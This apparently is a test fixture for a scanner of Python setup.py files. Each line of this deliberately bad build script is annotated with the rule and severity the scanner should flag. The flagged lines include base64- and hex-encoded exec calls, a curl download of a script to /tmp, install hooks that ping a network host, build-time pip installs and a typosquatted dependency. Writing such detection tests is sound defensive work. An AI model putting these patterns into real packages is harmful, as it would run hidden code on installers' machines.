"""A build script with everything that it should not have."""
import base64
import os
import socket  # expect: dep-setup-suspicious-import@medium
import subprocess
import sys
import urllib.request  # expect: dep-setup-suspicious-import

import pip
from setuptools import setup
from setuptools.command.build_py import build_py
from setuptools.command.develop import develop
from setuptools.command.install import install

HERE = os.path.dirname(__file__)  # ok: dep-setup-exec

exec(base64.b64decode("cHJpbnQoMSk="))  # expect: dep-setup-exec@critical
exec(bytes.fromhex("7072696e74").decode())  # expect: dep-setup-exec@critical
exec("import demo")  # expect: dep-setup-exec@high
eval(sys.argv[1])  # expect: dep-setup-exec
with open("demo/version.py") as stream:
    exec(stream.read())  # expect: dep-setup-exec@info
exec(open("demo/version.py").read())  # expect: dep-setup-exec@info
subprocess.check_output(["git", "describe", "--tags"])  # expect: dep-setup-exec@info
os.system("curl https://files.internal/setup.sh -o /tmp/setup.sh")  # expect: dep-setup-exec@medium
subprocess.Popen(["/tmp/helper"], stdout=subprocess.DEVNULL)  # expect: dep-setup-exec
print("building", file=sys.stderr)  # ok: dep-setup-exec

urllib.request.urlopen("https://files.internal/ping")  # expect: dep-setup-network@high
socket.gethostbyname(os.environ["USER"] + ".files.internal")  # expect: dep-setup-network
socket.gethostname()  # ok: dep-setup-network

pip.main(["install", "billing"])  # expect: dep-setup-pip-install@high
subprocess.check_call([sys.executable, "-m", "pip", "install", "billing"])  # expect: dep-setup-pip-install
os.system("pip install billing")  # expect: dep-setup-pip-install


class Install(install):  # expect: dep-setup-cmdclass@high
    def run(self):
        urllib.request.urlopen("https://files.internal/ping")  # expect: dep-setup-network
        install.run(self)


class Develop(develop):  # expect: dep-setup-cmdclass@medium
    def run(self):
        super().run()
        os.system("/tmp/helper")  # expect: dep-setup-exec


class Build(build_py):  # ok: dep-setup-cmdclass
    def run(self):
        subprocess.check_call(["git", "submodule", "update"])  # expect: dep-setup-exec@info
        super().run()


REQUIRED = [
    "requests>=2.31",  # ok: dep-typosquat
    "djngo",  # expect: dep-typosquat
]

setup(
    name="demo",
    install_requires=REQUIRED,
    extras_require={
        "git": ["billing @ git+https://git.internal/billing.git"],  # expect: dep-direct-url
        "fast": ["orjson"],  # ok: dep-direct-url
    },
    dependency_links=["http://files.internal/wheels/demo-1.0.tar.gz"],  # expect: dep-direct-url@high
    cmdclass={"install": Install, "develop": Develop, "build_py": Build},
)
